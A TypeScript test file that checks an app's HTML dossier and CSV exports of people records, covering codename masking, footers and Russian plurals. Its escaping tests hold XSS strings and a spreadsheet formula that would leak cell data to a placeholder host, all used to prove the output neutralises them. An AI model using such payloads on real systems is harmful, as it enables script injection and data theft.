/**
 * The documents a share produces (electron/core/services/share/render-*.ts): the HTML dossier
 * and the CSV list, in both languages, from ShareDocuments as the gate makes them. Names only
 * where the entry is named, hostile text inert, the footer's counts and plural forms.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { DocumentEntry, ShareDocument } from '../../electron/core/services/share/document.ts';
import {
  DOCUMENT_TEXTS,
  footerSentences,
  formatDocumentDate,
} from '../../electron/core/services/share/document-texts.ts';
import { renderListCsv } from '../../electron/core/services/share/render-csv.ts';
import { renderDossierHtml } from '../../electron/core/services/share/render-html.ts';
import { SHARE_FIELDS } from '../../shared/share.ts';

function named(overrides: Partial<DocumentEntry> = {}): DocumentEntry {
  return {
    decision: 'named',
    codename: 'Heron',
    fullName: 'Laura Whitfield',
    sphere: 'judiciary',
    region: 'Northern district',
    position: 'Judge of the regional court',
    agency: 'Regional court',
    about: 'Reform-minded.\nAttends every seminar.',
    notes: [{ occurredOn: '2026-03-14', title: 'Round table', body: 'Spoke about open hearings.' }],
    ...overrides,
  };
}

function codename(overrides: Partial<DocumentEntry> = {}): DocumentEntry {
  return {
    decision: 'codename',
    codename: 'Falcon',
    fullName: null,
    sphere: 'police',
    region: 'Capital',
    position: null,
    agency: null,
    about: null,
    notes: null,
    ...overrides,
  };
}

function makeDoc(overrides: Partial<ShareDocument> = {}): ShareDocument {
  return {
    recipientKind: 'partner',
    recipientLabel: 'Open Justice Foundation',
    purpose: 'Invitations to the spring seminar',
    reviewedBy: 'Maria Ivanova',
    createdAt: '2026-11-21T12:00:00.000Z',
    fields: [...SHARE_FIELDS],
    entries: [named(), codename()],
    withheld: 2,
    identifyingLeftOut: 1,
    restrictedNotesLeftOut: 5,
    sharedNotesLeftOut: 0,
    language: 'en',
    ...overrides,
  };
}

function parseCsv(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const result = Papa.parse<string[]>(csv.slice(1), { delimiter: ',', newline: '\r\n' });
  expect(result.errors).toEqual([]);
  return result.data;
}

/** The text of an HTML document as a reader sees it, tags removed and entities decoded. */
function visibleText(html: string): string {
  return html
    .replace(/<style>[\s\S]*?<\/style>/u, '')
    .replace(/<[^>]*>/gu, ' ')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');
}

describe('the HTML dossier', () => {
  it('is a complete, self-contained HTML5 document for A4, with no script anywhere', () => {
    const html = renderDossierHtml(makeDoc());
    expect(html.startsWith('<!DOCTYPE html>\n<html lang="en">')).toBe(true);
    expect(html).toContain('<meta charset="utf-8">');
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src 'none'">`,
    );
    expect(html).toContain('<meta name="referrer" content="no-referrer">');
    expect(html).toContain('@page { size: A4; margin: 18mm; }');
    expect(html.match(/<style>/gu)).toHaveLength(1);
    expect(html).not.toMatch(/<script/iu);
    expect(html).not.toMatch(/<(link|img|iframe|object|embed|base)\b/iu);
    expect(html).not.toMatch(/@import|@font-face|url\(/iu);
    expect(html).not.toMatch(/https?:/iu);
    expect(html).toMatch(/white-space: pre-wrap/u);
    expect(html.trimEnd().endsWith('</html>')).toBe(true);
  });

  it('heads the document with the recipient, purpose, reviewer and date', () => {
    const text = visibleText(renderDossierHtml(makeDoc()));
    for (const expected of [
      'Confidential',
      'Prepared for',
      'Open Justice Foundation',
      'Purpose',
      'Invitations to the spring seminar',
      'Reviewed by',
      'Maria Ivanova',
      'Date',
      '21 November 2026',
    ])
      expect(text).toContain(expected);
  });

  it('shows a named person by name with the fields present, and notes as date, title and body', () => {
    const html = renderDossierHtml(makeDoc());
    expect(html).toContain('<h2><span class="name">Laura Whitfield</span></h2>');
    const text = visibleText(html);
    // Never a name and its codename side by side: that would unmask later codename-only outputs.
    expect(text).not.toContain('Heron');
    for (const expected of [
      'Judiciary',
      'Northern district',
      'Judge of the regional court',
      'Regional court',
      'Reform-minded.\nAttends every seminar.',
      '14 March 2026',
      'Round table',
      'Spoke about open hearings.',
    ])
      expect(text).toContain(expected);
  });

  it('shows a codename person by codename with the marker, and nothing it does not carry', () => {
    const html = renderDossierHtml(makeDoc());
    expect(html).toMatch(
      /<h2><span class="name">Falcon<\/span><span class="marker">Shown by codename only<\/span><\/h2>/u,
    );
    const falcon = html.slice(html.indexOf('Falcon'));
    const section = falcon.slice(0, falcon.indexOf('</section>'));
    expect(section).toContain('Police');
    expect(section).toContain('Capital');
    expect(section).not.toContain('Position');
    expect(section).not.toContain('Agency');
    expect(section).not.toContain('About');
    expect(section).not.toContain('Notes');
  });

  it('prints a name in its own entry only, never in a codename entry', () => {
    const doc = makeDoc();
    const html = renderDossierHtml(doc);
    expect(html.split('Laura Whitfield')).toHaveLength(2);
    const falcon = html.slice(html.indexOf('<span class="name">Falcon'));
    expect(falcon).not.toContain('Laura Whitfield');
    expect(falcon).not.toContain('Heron');
    const rows = parseCsv(renderListCsv(doc));
    expect(rows.filter((row) => row.includes('Laura Whitfield'))).toHaveLength(1);
    expect(rows.find((row) => row[1] === 'Falcon')?.[0]).toBe('');
  });

  it('never prints a codename entry’s stray name or identifying fields', () => {
    // A codename entry wrongly carrying a name and identifying fields (a bug upstream) still
    // shows none of them.
    const doc = makeDoc({
      entries: [
        codename({
          fullName: 'Secret Person',
          position: 'Head of the anti-corruption unit',
          agency: 'Ministry of the Interior',
          about: 'Met us at the embassy',
          notes: [{ occurredOn: '2026-01-02', title: 'Dinner', body: 'Very private' }],
        }),
      ],
    });
    for (const output of [renderDossierHtml(doc), renderListCsv(doc)]) {
      for (const hidden of [
        'Secret Person',
        'Head of the anti-corruption unit',
        'Ministry of the Interior',
        'Met us at the embassy',
        'Dinner',
        'Very private',
      ])
        expect(output).not.toContain(hidden);
      expect(output).toContain('Falcon');
    }
  });

  it('prints only the fields the leader chose, in their order', () => {
    const html = renderDossierHtml(makeDoc({ fields: ['region', 'sphere'], entries: [named()] }));
    const text = visibleText(html);
    expect(text.indexOf('Northern district')).toBeLessThan(text.indexOf('Judiciary'));
    for (const absent of [
      'Judge of the regional court',
      'Regional court',
      'Reform-minded',
      'Round table',
    ])
      expect(text).not.toContain(absent);
  });

  it('escapes every hostile text, so nothing is read as HTML', () => {
    const hostile = {
      script: '<script>alert(1)</script>',
      img: '"><img src=x onerror=alert(1)>',
      quote: "' onmouseover='alert(1)",
      amp: 'Tom &amp; Jerry & co',
    };
    const doc = makeDoc({
      recipientLabel: hostile.script,
      purpose: hostile.img,
      reviewedBy: hostile.quote,
      entries: [
        named({
          fullName: hostile.script,
          codename: hostile.img,
          region: hostile.quote,
          position: hostile.amp,
          agency: '**bold** [link](https://example.invalid)',
          about: `${hostile.script}\n${hostile.img}`,
          notes: [{ occurredOn: '2026-03-14', title: hostile.img, body: hostile.script }],
        }),
        codename({ codename: hostile.script }),
      ],
    });
    const html = renderDossierHtml(doc);
    expect(html).not.toMatch(/<script/iu);
    expect(html).not.toMatch(/<img/iu);
    expect(html).not.toContain("' onmouseover");
    for (const value of Object.values(hostile).slice(0, 3)) expect(html).not.toContain(value);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('&#39; onmouseover=&#39;alert(1)');
    expect(html).toContain('Tom &amp;amp; Jerry &amp; co');
    // Markdown stays as typed.
    expect(html).toContain('**bold** [link](https://example.invalid)');
    expect(html).not.toContain('<strong>');
    const text = visibleText(html);
    for (const value of Object.values(hostile)) expect(text).toContain(value);
  });

  it('says when notes that also concern persons not named were left out', () => {
    expect(footerSentences(makeDoc({ sharedNotesLeftOut: 2 }))).toContain(
      '2 notes that also concern persons not named in this document were not included.',
    );
    expect(footerSentences(makeDoc({ language: 'ru', sharedNotesLeftOut: 1 }))).toContain(
      '1 запись, касающаяся и людей, не названных в этом документе, не включена.',
    );
    expect(footerSentences(makeDoc()).join(' ')).not.toContain('not named in this document');
  });

  it('writes the footer from the document’s counts: withheld, codenames, restricted notes', () => {
    const text = visibleText(renderDossierHtml(makeDoc()));
    expect(text).toContain(
      '2 persons were withheld from this document and are not mentioned in it.',
    );
    expect(text).toContain(
      'The name of 1 person was replaced by a codename; their position, agency, notes and other identifying details were left out.',
    );
    expect(text).toContain('5 restricted notes were not included.');
    expect(text).toContain('Restricted notes never leave the vault.');
    expect(text).not.toContain('No one was withheld.');
  });

  it('says when no one was withheld, and leaves out counts of zero', () => {
    const doc = makeDoc({ withheld: 0, identifyingLeftOut: 0, restrictedNotesLeftOut: 0 });
    expect(footerSentences(doc)).toEqual([
      'No one was withheld.',
      'Restricted notes never leave the vault.',
    ]);
    const text = visibleText(renderDossierHtml(doc));
    expect(text).toContain('No one was withheld.');
    expect(text).not.toMatch(/\b0\b/u);
  });

  it('uses the English singular and plural', () => {
    expect(
      footerSentences(makeDoc({ withheld: 1, identifyingLeftOut: 3, restrictedNotesLeftOut: 1 })),
    ).toEqual([
      '1 person was withheld from this document and is not mentioned in it.',
      'The names of 3 persons were replaced by codenames; their position, agency, notes and other identifying details were left out.',
      '1 restricted note was not included.',
      'Restricted notes never leave the vault.',
    ]);
  });

  it.each([
    [
      1,
      '1 человек исключён из этого документа и не упоминается в нём.',
      '1 закрытая запись не включена.',
      '1 человек указан только под кодовым именем',
    ],
    [
      2,
      '2 человека исключены из этого документа и не упоминаются в нём.',
      '2 закрытые записи не включены.',
      '2 человека указаны только под кодовыми именами',
    ],
    [
      5,
      '5 человек исключены из этого документа и не упоминаются в нём.',
      '5 закрытых записей не включены.',
      '5 человек указаны только под кодовыми именами',
    ],
    [
      21,
      '21 человек исключён из этого документа и не упоминается в нём.',
      '21 закрытая запись не включена.',
      '21 человек указан только под кодовым именем',
    ],
  ])('uses the Russian plural form for %i', (count, withheld, notes, codenames) => {
    const doc = makeDoc({
      language: 'ru',
      withheld: count,
      identifyingLeftOut: count,
      restrictedNotesLeftOut: count,
    });
    const [first, second, third, last] = footerSentences(doc);
    expect(first).toBe(withheld);
    expect(second?.startsWith(codenames)).toBe(true);
    expect(third).toBe(notes);
    expect(last).toBe('Закрытые записи никогда не покидают хранилище.');
    expect(visibleText(renderDossierHtml(doc))).toContain(withheld);
  });

  it('is written in Russian, with Russian dates, when the document is', () => {
    const html = renderDossierHtml(
      makeDoc({ language: 'ru', withheld: 0, identifyingLeftOut: 0, restrictedNotesLeftOut: 0 }),
    );
    expect(html.startsWith('<!DOCTYPE html>\n<html lang="ru">')).toBe(true);
    const text = visibleText(html);
    for (const expected of [
      'Конфиденциально',
      'Подготовлено для',
      'Цель',
      'Кто проверил',
      '21 ноября 2026 г.',
      '14 марта 2026 г.',
      'Судебная система',
      'Полиция',
      'Указано только кодовое имя',
      'Никто не был исключён.',
    ])
      expect(text).toContain(expected);
    expect(text).not.toContain('Shown by codename only');
    expect(text).not.toContain('Confidential');
  });

  it('contains no words but the document’s and DOCUMENT_TEXTS’', () => {
    const doc = makeDoc();
    const texts = DOCUMENT_TEXTS.en;
    const allowed = [
      doc.recipientLabel,
      doc.purpose,
      doc.reviewedBy,
      formatDocumentDate(doc.createdAt, 'en'),
      formatDocumentDate('2026-03-14', 'en'),
      ...doc.entries.flatMap((entry) => [
        entry.codename,
        entry.fullName ?? '',
        entry.region ?? '',
        entry.position ?? '',
        entry.agency ?? '',
        entry.about ?? '',
        ...(entry.notes ?? []).flatMap((note) => [note.title, note.body]),
      ]),
      texts.confidential,
      texts.preparedFor,
      texts.purpose,
      texts.reviewedBy,
      texts.date,
      texts.codename,
      texts.shownByCodenameOnly,
      ...Object.values(texts.fields),
      ...Object.values(texts.spheres),
      ...footerSentences(doc),
    ];
    let rest = visibleText(renderDossierHtml(doc));
    for (const piece of allowed.filter(Boolean).sort((a, b) => b.length - a.length))
      rest = rest.replaceAll(piece, ' ');
    expect(rest.trim()).toBe('');
  });
});

describe('the CSV list', () => {
  it('has a byte order mark, CRLF line ends and commas', () => {
    const csv = renderListCsv(makeDoc());
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Every line ends with CRLF; a bare LF is only inside the quoted `about` cell.
    expect(renderListCsv(makeDoc({ entries: [named({ about: 'One line' })] }))).not.toMatch(
      /[^\r]\n/u,
    );
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe(
      'Full name,Codename,Shown as,Sphere,Region,Position,Agency,About,Notes (count)',
    );
  });

  it('parses back to the same cells: one row per person, an empty row, then the footer', () => {
    const rows = parseCsv(renderListCsv(makeDoc()));
    expect(rows).toEqual([
      [
        'Full name',
        'Codename',
        'Shown as',
        'Sphere',
        'Region',
        'Position',
        'Agency',
        'About',
        'Notes (count)',
      ],
      [
        'Laura Whitfield',
        '',
        'Named',
        'Judiciary',
        'Northern district',
        'Judge of the regional court',
        'Regional court',
        'Reform-minded.\nAttends every seminar.',
        '1',
      ],
      ['', 'Falcon', 'Codename only', 'Police', 'Capital', '', '', '', ''],
      [''],
      ['2 persons were withheld from this document and are not mentioned in it.'],
      [
        'The name of 1 person was replaced by a codename; their position, agency, notes and other identifying details were left out.',
      ],
      ['5 restricted notes were not included.'],
      ['Restricted notes never leave the vault.'],
      [''],
    ]);
  });

  it('has one column per chosen field, in the leader’s order', () => {
    const rows = parseCsv(
      renderListCsv(makeDoc({ fields: ['notes', 'region'], entries: [named()], withheld: 0 })),
    );
    expect(rows.slice(0, 2)).toEqual([
      ['Full name', 'Codename', 'Shown as', 'Notes (count)', 'Region'],
      ['Laura Whitfield', '', 'Named', '1', 'Northern district'],
    ]);
    expect(rows).toContainEqual(['No one was withheld.']);
  });

  it('neutralises formulas and keeps hostile text as the text it is', () => {
    const entries = [
      named({
        fullName: '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
        codename: 'Heron',
        region: '@SUM(A1:A9)',
        position: '-2+3',
        agency: 'Court, "Open" unit',
        about: '<script>alert(1)</script>\r\n=1+1',
        notes: [],
      }),
    ];
    const csv = renderListCsv(makeDoc({ entries }));
    const rows = parseCsv(csv);
    expect(rows[1]).toEqual([
      `'=HYPERLINK("http://example.invalid/?leak="&A1,"click")`,
      '',
      'Named',
      'Judiciary',
      "'@SUM(A1:A9)",
      "'-2+3",
      'Court, "Open" unit',
      '<script>alert(1)</script>\r\n=1+1',
      '0',
    ]);
    // No cell starts with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/u);
  });

  it('is written in Russian when the document is, with Russian plural forms', () => {
    const rows = parseCsv(
      renderListCsv(
        makeDoc({ language: 'ru', withheld: 21, identifyingLeftOut: 2, restrictedNotesLeftOut: 5 }),
      ),
    );
    expect(rows[0]).toEqual([
      'Полное имя',
      'Кодовое имя',
      'Как указан',
      'Сфера',
      'Регион',
      'Должность',
      'Ведомство',
      'О человеке',
      'Записи (число)',
    ]);
    expect(rows[1]?.slice(0, 4)).toEqual(['Laura Whitfield', '', 'По имени', 'Судебная система']);
    expect(rows[2]?.slice(0, 4)).toEqual(['', 'Falcon', 'Только кодовое имя', 'Полиция']);
    expect(rows).toContainEqual(['21 человек исключён из этого документа и не упоминается в нём.']);
    expect(rows).toContainEqual(['5 закрытых записей не включены.']);
    expect(rows).toContainEqual(['Закрытые записи никогда не покидают хранилище.']);
  });
});

describe('document dates', () => {
  it('are written out as the app writes dates (long style, day first)', () => {
    expect(formatDocumentDate('2026-11-21', 'en')).toBe('21 November 2026');
    expect(formatDocumentDate('2026-11-21', 'ru')).toBe('21 ноября 2026 г.');
    expect(formatDocumentDate('2026-11-21', 'en')).toBe(
      new Intl.DateTimeFormat('en-GB', { dateStyle: 'long' }).format(new Date(2026, 10, 21)),
    );
    expect(formatDocumentDate('2026-11-21', 'ru')).toBe(
      new Intl.DateTimeFormat('ru-RU', { dateStyle: 'long' }).format(new Date(2026, 10, 21)),
    );
  });
});
